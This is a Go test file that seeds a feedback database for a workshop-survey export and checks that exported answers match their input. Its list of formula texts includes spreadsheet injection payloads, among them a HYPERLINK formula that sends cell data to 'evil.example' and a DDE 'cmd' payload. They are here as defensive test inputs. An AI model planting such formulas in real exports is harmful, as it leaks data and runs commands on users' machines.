package export_test

import (
	"context"
	"fmt"
	"path/filepath"
	"testing"
	"time"

	"feedback/export"
	"feedback/forms"
	"feedback/store"
)

// The seeded forum: a known set of responses in three workshops (none in the
// other five), covering every question type, answers skipped here and there,
// text in Cyrillic, Arabic and Chinese, and texts that look like formulas.
var seedCounts = map[string]int{"data-governance": 40, "digital-government": 13, "next-generation": 3}

// formulaTexts must come out of every export as the very text typed.
var formulaTexts = []string{
	`=1+1`,
	`=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`,
	`+SUM(A1:A9)`,
	`-2+3`,
	`@SUM(1,2)`,
	"\t=1+1",
	"\r=cmd|' /C calc'!A0",
}

var plainTexts = []string{
	"Очень полезный семинар, спасибо организаторам!",
	"ورشة عمل مفيدة جداً، شكراً للمنظمين",
	"非常有用的研讨会",
	"Practical tools we can use on Monday.",
	"Более длинные перерывы — и больше времени на вопросы.",
	"أتمنى المزيد من دراسات الحالة من منطقتنا",
}

var (
	roleSeq   = []string{"national_government", "national_government", "local_government", "national_government", "international_organization", "academia", "", "national_government", "local_government", "civil_society"}
	regionSeq = []string{"africa", "asia_pacific", "eastern_europe", "latin_america_caribbean", "western_europe_others", "", "asia_pacific"}
	genderSeq = []string{"woman", "man", "woman", "man", "another", "prefer_not_to_say", "woman", "man"}
	formats   = []string{"presentations", "case_studies", "group_exercises", "peer_exchange", "practical_tools"}
	langSeq   = []string{"en", "ru", "ar", "fr", "zh", "es", "uz"}
)

var seedStart = time.Date(2025, 6, 25, 9, 0, 0, 0, time.UTC)

// seedAnswers returns the i-th seeded response's answers; global numbers the
// response across workshops so that texts differ between workshops.
func seedAnswers(i, global int) forms.Answers {
	a := forms.Answers{
		"satisfaction": {Number: 1 + (i*7+3)%5},
		"relevance":    {Number: 1 + (i*3)%5},
	}
	if i%4 != 0 {
		a["knowledge_before"] = forms.Answer{Number: 1 + i%3}
	}
	if i%5 != 0 {
		a["knowledge_after"] = forms.Answer{Number: 3 + i%3}
	}
	if i%3 != 2 {
		a["apply"] = forms.Answer{Number: 1 + (i*11)%5}
	}
	a["facilitation"] = forms.Answer{Number: 5 - i%2}
	if i%6 != 5 {
		a["recommend"] = forms.Answer{Number: (i * 5) % 11}
	}
	if i%7 != 0 {
		var chosen []string
		for b, f := range formats {
			if (i+1)&(1<<b) != 0 {
				chosen = append(chosen, f)
			}
		}
		if len(chosen) > 0 {
			a["useful_formats"] = forms.Answer{Choices: chosen}
		}
	}
	for id, seq := range map[string][]string{"role": roleSeq, "region": regionSeq, "gender": genderSeq} {
		if v := seq[i%len(seq)]; v != "" {
			a[id] = forms.Answer{Choices: []string{v}}
		}
	}
	switch global % 3 {
	case 0:
		a["takeaway"] = forms.Answer{Text: formulaTexts[(global/3)%len(formulaTexts)]}
	case 1:
		a["takeaway"] = forms.Answer{Text: plainTexts[(global/3)%len(plainTexts)]}
	}
	if global%4 == 1 {
		a["improve"] = forms.Answer{Text: fmt.Sprintf("%s (#%d)", plainTexts[global%len(plainTexts)], global)}
	}
	return a
}

// seeded is the seeded forum as the test knows it, to compute every figure
// itself.
type seeded struct {
	db        *store.DB
	responses []*forms.Response // in submission order, with their public ids
}

// byWorkshop returns the seeded responses to one workshop.
func (s *seeded) byWorkshop(slug string) []*forms.Response {
	var out []*forms.Response
	for _, r := range s.responses {
		if r.Workshop == slug {
			out = append(out, r)
		}
	}
	return out
}

// source is the store's EachResponse bound to a workshop, as the app hands
// it to the export.
func (s *seeded) source(slug string) export.Source {
	return func(ctx context.Context, fn func(*forms.Response) error) error {
		return s.db.EachResponse(ctx, store.Filter{Workshop: slug}, fn)
	}
}

// seed stores the seeded forum in a real SQLite file.
func seed(t testing.TB) *seeded {
	t.Helper()
	ctx := context.Background()
	db, err := store.Open(ctx, filepath.Join(t.TempDir(), "feedback.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	s := &seeded{db: db}
	f := forms.Default()
	global := 0
	// Interleave the workshops, as at the forum, so the export cannot rely
	// on responses arriving grouped.
	for i := 0; ; i++ {
		more := false
		for _, w := range f.Workshops {
			if i >= seedCounts[w.Slug] {
				continue
			}
			more = true
			r := &forms.Response{
				SubmissionID: fmt.Sprintf("00000000-0000-4000-8000-%012d", global),
				Workshop:     w.Slug,
				Lang:         langSeq[global%len(langSeq)],
				SubmittedAt:  seedStart.Add(time.Duration(global) * time.Minute),
				Answers:      seedAnswers(i, global),
			}
			saved, err := db.SaveResponse(ctx, r)
			if err != nil {
				t.Fatal(err)
			}
			r.ID = saved.ID
			s.responses = append(s.responses, r)
			global++
		}
		if !more {
			break
		}
	}
	return s
}
